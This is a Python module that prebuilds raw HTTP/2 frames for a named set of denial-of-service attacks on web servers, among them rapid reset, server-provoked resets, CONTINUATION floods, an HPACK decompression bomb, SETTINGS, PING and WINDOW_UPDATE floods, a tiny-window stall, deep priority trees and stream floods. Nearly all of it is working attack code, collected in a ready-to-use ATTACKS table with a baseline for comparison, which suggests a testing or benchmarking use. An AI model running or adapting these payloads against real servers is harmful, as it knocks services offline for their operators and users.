"""Frames of HTTP/2 as an attacker sends them: built before anything is sent, so that sending is all it costs.

`ATTACKS` has what goes first on a connection and what goes on and on. Heads use no dynamic table unless that is the
attack, so that any number of them can stand behind each other.
"""

import struct
from dataclasses import dataclass
from typing import Callable

DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION, PRIORITY_UPDATE = (
    0x0, 0x1, 0x2, 0x3, 0x4, 0x6, 0x7, 0x8, 0x9, 0x10,
)
_UNKNOWN = 0xEE
END_STREAM, ACK, END_HEADERS = 0x1, 0x1, 0x4
FRAME_HEAD_BYTES = 9
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_CANCEL = 0x8
_FRAME_BYTES_MAX = 16384
_INITIAL_WINDOW_SIZE = 0x4
# Streams whose windows are opened byte by byte: as many as servers allow without being told otherwise.
_WINDOW_STREAMS = 100
# The entry that HPACK's bomb names again and again: what the table of 4,096 bytes holds, 32 of them overhead.
_BOMB_BYTES = 4000


@dataclass(frozen=True)
class Attack:
    """What one connection sends."""

    # After the preface and SETTINGS.
    begin: Callable[["Target"], bytes]
    # The n-th thing that is repeated.
    repeat: Callable[["Target", int], bytes]
    # Frames of `begin`, and of each repetition.
    frames_first: int = 0
    frames_each: int = 1
    # What the first SETTINGS say.
    settings: bytes = b""


@dataclass(frozen=True)
class Target:
    """Whom and what requests name."""

    host: bytes
    path: bytes
    # An object of a megabyte that the server has in its cache.
    large_path: bytes

    def get(self, large: bool = False) -> bytes:
        """The block of a GET: only the static table, and literals that no table keeps."""
        return b"\x82\x87" + self._rest(self.large_path if large else self.path)

    def post(self) -> bytes:
        return b"\x83\x87" + self._rest(self.path)

    def _rest(self, path: bytes) -> bytes:
        return b"\x04" + _text(path) + b"\x01" + _text(self.host)


def frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def setting(identifier: int, value: int) -> bytes:
    return struct.pack(">HI", identifier, value)


def _text(value: bytes) -> bytes:
    """A string literal without Huffman's code."""
    return _integer(len(value), 7, 0) + value


def _integer(value: int, bits: int, first: int) -> bytes:
    limit = (1 << bits) - 1
    if value < limit:
        return bytes([first | value])
    out, value = bytearray([first | limit]), value - limit
    while value >= 128:
        out.append(value % 128 | 128)
        value //= 128
    out.append(value)
    return bytes(out)


def _stream(number: int) -> int:
    return 2 * number + 1


def _nothing(_: Target) -> bytes:
    return b""


# MARK: What is sent


def _open_get(target: Target) -> bytes:
    return frame(HEADERS, END_STREAM | END_HEADERS, 1, target.get())


def _nothing_more(_: Target, number: int) -> bytes:
    return b""


def _rapid_reset(target: Target, number: int) -> bytes:
    stream = _stream(number)
    return frame(HEADERS, END_STREAM | END_HEADERS, stream, target.get()) + frame(
        RST_STREAM, 0, stream, struct.pack(">I", _CANCEL))


def _server_reset(target: Target, number: int) -> bytes:
    # An increment of zero is an error of the stream (RFC 9113, section 6.9): the server resets it.
    stream = _stream(number)
    return frame(HEADERS, END_STREAM | END_HEADERS, stream, target.get()) + frame(
        WINDOW_UPDATE, 0, stream, struct.pack(">I", 0))


def _open_block(target: Target) -> bytes:
    return frame(HEADERS, END_STREAM, 1, target.get())


def _continuation(_: Target, number: int) -> bytes:
    return frame(CONTINUATION, 0, 1, b"\x00" + _text(b"x-%d" % number) + _text(b"y"))


def _empty_continuation(_: Target, number: int) -> bytes:
    return frame(CONTINUATION, 0, 1, b"")


def _settings(_: Target, number: int) -> bytes:
    return frame(SETTINGS, 0, 0, setting(_INITIAL_WINDOW_SIZE, 65535 + number % 2))


def _ping(_: Target, number: int) -> bytes:
    return frame(PING, 0, 0, struct.pack(">Q", number))


def _open_post(target: Target) -> bytes:
    return frame(HEADERS, END_HEADERS, 1, target.post())


def _empty_data(_: Target, number: int) -> bytes:
    return frame(DATA, 0, 1, b"")


def _window_update(_: Target, number: int) -> bytes:
    return frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1))


def _open_bomb(target: Target) -> bytes:
    # The request that puts the large entry into the table.
    entry = b"\x40" + _text(b"x") + _text(b"y" * (_BOMB_BYTES - 1))
    return frame(HEADERS, END_STREAM | END_HEADERS, 1, target.get() + entry)


def _bomb(target: Target, number: int) -> bytes:
    # 0xbe: index 62, the newest entry. Each byte stands for four thousand.
    block = target.get()
    block += b"\xbe" * (_FRAME_BYTES_MAX - len(block))
    return frame(HEADERS, END_STREAM | END_HEADERS, _stream(number + 1), block)


def _open_large(target: Target) -> bytes:
    block = target.get(large=True)
    return b"".join(frame(HEADERS, END_STREAM | END_HEADERS, _stream(n), block) for n in range(_WINDOW_STREAMS))


def _tiny_window(_: Target, number: int) -> bytes:
    return frame(WINDOW_UPDATE, 0, _stream(number % _WINDOW_STREAMS), struct.pack(">I", 1))


def _priority(_: Target, number: int) -> bytes:
    # Exclusive, and each on the one before: the tree of RFC 7540 grows as deep as it may.
    stream = _stream(number % 1000 + 1)
    return frame(PRIORITY, 0, stream, struct.pack(">IB", 0x8000_0000 | (stream - 2), 255))


def _priority_update(_: Target, number: int) -> bytes:
    return frame(PRIORITY_UPDATE, 0, 0, struct.pack(">I", _stream(number % 1000)) + b"u=%d" % (number % 8))


def _stream_flood(target: Target, number: int) -> bytes:
    return frame(HEADERS, END_HEADERS, _stream(number), target.post())


def _unknown(_: Target, number: int) -> bytes:
    return frame(_UNKNOWN, 0, 0, b"")


ATTACKS: dict[str, Attack] = {
    # For comparison: one request, and nothing else.
    "none": Attack(_open_get, _nothing_more, frames_first=1, frames_each=0),
    "rapid-reset": Attack(_nothing, _rapid_reset, frames_each=2),
    "server-reset": Attack(_nothing, _server_reset, frames_each=2),
    "continuation": Attack(_open_block, _continuation, frames_first=1),
    "empty-continuation": Attack(_open_block, _empty_continuation, frames_first=1),
    "settings": Attack(_nothing, _settings),
    "ping": Attack(_nothing, _ping),
    "empty-data": Attack(_open_post, _empty_data, frames_first=1),
    "window-update": Attack(_nothing, _window_update),
    "hpack-bomb": Attack(_open_bomb, _bomb, frames_first=1),
    "tiny-window": Attack(_open_large, _tiny_window, _WINDOW_STREAMS, settings=setting(_INITIAL_WINDOW_SIZE, 0)),
    "priority": Attack(_nothing, _priority),
    "priority-update": Attack(_nothing, _priority_update),
    "stream-flood": Attack(_nothing, _stream_flood),
    "unknown-frames": Attack(_nothing, _unknown),
}
